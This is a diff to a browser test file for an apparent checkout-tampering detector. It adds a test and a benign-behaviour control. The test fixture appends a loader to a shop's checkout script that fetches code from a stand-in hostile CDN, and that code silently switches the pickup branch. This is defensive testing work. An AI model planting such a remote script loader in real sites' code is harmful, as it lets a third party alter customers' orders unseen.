@@ -4,12 +4,16 @@
  * address (with an address book filling the empty fields first), choosing a branch with the keyboard,
  * confirming the order, and paying at the shop's own payment provider.
  */
+import { readFileSync } from 'node:fs';
 import type { Page } from 'puppeteer';
 import { expect, it } from 'vitest';
 import { BENIGN_NEIGHBOURS, ISOLATED_HELPER } from '../helpers/fixture-extensions.ts';
 import { MAIN_WORLD_HELPER } from '../helpers/paths.ts';
 import type { SaqBrowser } from '../helpers/harness.ts';
 import type { ShopServer } from '../shop/index.ts';
+import { STATIC } from '../shop/config.ts';
+import { HELPER_CDN } from '../helpers/hostile/attacks.ts';
+import { pollPage } from '../helpers/harness.ts';
 import { recordCase } from './detection-table.ts';
 import { describeEachBrowser, eventually } from './each-browser.ts';
 import { keptFindings } from './kept-findings.ts';
@@ -50,6 +54,42 @@ async function atCheckout(
   await page.goto(checkout.href, { waitUntil: 'load' });
   return { page, tabId };
 }
+
+/** The replica's own checkout script, which a test extends with more of the shop's checkout code. */
+const CHECKOUT_JS = readFileSync(new URL('../shop/static/checkout.js', import.meta.url), 'utf8');
+/**
+ * The shop's checkout help that fires events from its own code: address suggestions (DaData, Google Places) that
+ * complete the street the person started typing, and a map whose pins set the pickup branch.
+ */
+const SUGGESTIONS_AND_MAP = `(function () {
+  var street = document.querySelector('input[autocomplete="street-address"]');
+  var list = document.createElement('ul');
+  list.className = 'suggestions';
+  street.insertAdjacentElement('afterend', list);
+  street.addEventListener('input', function (event) {
+    if (event.isTrusted) list.innerHTML = '<li data-v="пр-кт Абая, д. 10, кв. 5">пр-кт Абая, д. 10, кв. 5</li>';
+  });
+  list.addEventListener('click', function (event) {
+    var item = event.target.closest('li');
+    if (!item) return;
+    street.value = item.dataset.v;
+    street.dispatchEvent(new Event('input', { bubbles: true }));
+    street.dispatchEvent(new Event('change', { bubbles: true }));
+    list.innerHTML = '';
+    window.__suggested = true;
+  });
+  var branch = document.querySelector('[data-role="pickup-branch"]');
+  var map = document.createElement('div');
+  map.innerHTML = '<button type="button" class="pin" data-branch="almaty">Алматы</button>';
+  branch.parentElement.after(map);
+  map.addEventListener('click', function (event) {
+    var pin = event.target.closest('.pin');
+    if (!pin) return;
+    branch.value = pin.dataset.branch;
+    branch.dispatchEvent(new Event('change', { bubbles: true }));
+    window.__pinned = true;
+  });
+})();`;
 
 /** The person selects the street the address book filled in and types theirs. */
 async function typeStreet(page: Page, street: string): Promise<void> {
@@ -160,6 +200,41 @@ describeEachBrowser('sensors-rest: checkout', (context) => {
     const saq = await saqBrowser();
     const { tabId } = await atCheckout(saq, context.shop, 'branch');
     await deliveryCaught(saq, tabId, task, 'pickup branch changed by script', 'branch');
+  });
+
+  it("catches a helper's page script switching the pickup branch with a change event, and names it", async ({ task }) => {
+    // The helper rides on the shop's checkout script (a tag it compromised), loads its own and switches the branch.
+    context.shop.setFixture(
+      STATIC.checkout,
+      `${CHECKOUT_JS}\n(function () { var s = document.createElement('script'); s.src = 'https://${HELPER_CDN}/branch.js'; document.head.appendChild(s); })();`,
+      { contentType: 'text/javascript' },
+    );
+    context.shop.setFixture(
+      '/branch.js',
+      `setTimeout(function () { var b = document.querySelector('[data-role="pickup-branch"]'); b.value = 'oskemen'; b.dispatchEvent(new Event('change', { bubbles: true })); }, 300);`,
+      { host: HELPER_CDN, contentType: 'text/javascript' },
+    );
+    const saq = await saqBrowser();
+    const { tabId } = await atCheckout(saq, context.shop);
+    await deliveryCaught(saq, tabId, task, "pickup branch switched by a helper's page script (change event)", 'branch');
+    const verdict = (await rulesFire(saq, tabId, ['SAQ-CHK-002']))!.find((v) => v.ruleId === 'SAQ-CHK-002')!;
+    expect(verdict.finding.actor.url).toBe(`https://${HELPER_CDN}/branch.js`);
+  });
+
+  // Both were SAQ-CHK-002 (danger) on the shop's own code, in both browsers (a review of benign pages, stop 55).
+  it("stays silent for the shop's address suggestions and branch map, which set the fields and fire input and change", async ({ task }) => {
+    context.shop.setFixture(STATIC.checkout, `${CHECKOUT_JS}\n${SUGGESTIONS_AND_MAP}`, { contentType: 'text/javascript' });
+    const saq = await saqBrowser();
+    const { page, tabId } = await atCheckout(saq, context.shop);
+    await typeStreet(page, 'Abay 10');
+    await page.click('ul.suggestions li');
+    await pollPage(page, () => (window as { __suggested?: boolean }).__suggested === true, undefined, 'the suggestion taken');
+    await humanPause(300, 200);
+    await page.click('input[name="delivery"][value="pickup"]');
+    await page.click('.pin[data-branch="almaty"]');
+    await pollPage(page, () => (window as { __pinned?: boolean }).__pinned === true, undefined, 'the branch pinned');
+    await humanPause(300, 200);
+    await confirmsSilently(saq, page, tabId, task, "the shop's address suggestions and branch map (events from its own code)");
   });
 
   it('catches the street quietly rewritten after the person typed it, when the order is confirmed', async ({ task }) => {
